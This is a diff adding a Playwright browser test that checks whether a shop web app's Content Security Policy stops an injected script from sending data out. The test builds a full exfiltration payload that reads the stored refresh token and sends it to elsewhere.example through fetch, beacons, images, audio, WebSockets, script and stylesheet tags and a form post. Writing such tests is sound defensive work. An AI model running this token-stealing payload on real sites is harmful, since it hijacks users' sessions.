@@ -71,3 +71,45 @@ test('an inline style sheet, a foreign frame and a script of a text are stopped'
   expect(await page.title()).not.toBe('taken over');
   await page.context().close();
 });
+
+test('a script that got into the page cannot send what the phone keeps to another server', async ({
+  browser,
+  shop,
+  system,
+}) => {
+  // The browser complains of what it stops.
+  const page = await (await browser.newContext({ baseURL: system.webUrl })).newPage();
+  const violations = await watchPolicy(page);
+  const left: string[] = [];
+  await page.context().route('https://elsewhere.example/**', (route) => {
+    left.push(route.request().url());
+    return route.abort();
+  });
+  await shop.signIn(page);
+  await open(page, '/pages/tabBar/my/my');
+  await page.evaluate(async () => {
+    const taken = `https://elsewhere.example/?${localStorage.getItem('refreshToken')}`;
+    await fetch(taken, { mode: 'no-cors' }).catch(() => undefined);
+    navigator.sendBeacon(taken);
+    new Image().src = taken;
+    new Audio(taken);
+    try {
+      new WebSocket(taken.replace('https', 'wss'));
+    } catch {
+      // Some browsers throw.
+    }
+    const add = (tag: string, own: object) =>
+      document.body.append(Object.assign(document.createElement(tag), own));
+    add('link', { rel: 'stylesheet', href: taken });
+    add('script', { src: taken });
+    const form = Object.assign(document.createElement('form'), { action: taken, method: 'post' });
+    document.body.append(form);
+    form.submit();
+  });
+  const stopped = () => [...new Set(violations.map((text) => text.split(' ')[0]))].sort();
+  await expect
+    .poll(stopped)
+    .toEqual(['connect-src', 'form-action', 'img-src', 'media-src', 'script-src-elem', 'style-src-elem']);
+  expect(left).toEqual([]);
+  await page.context().close();
+});
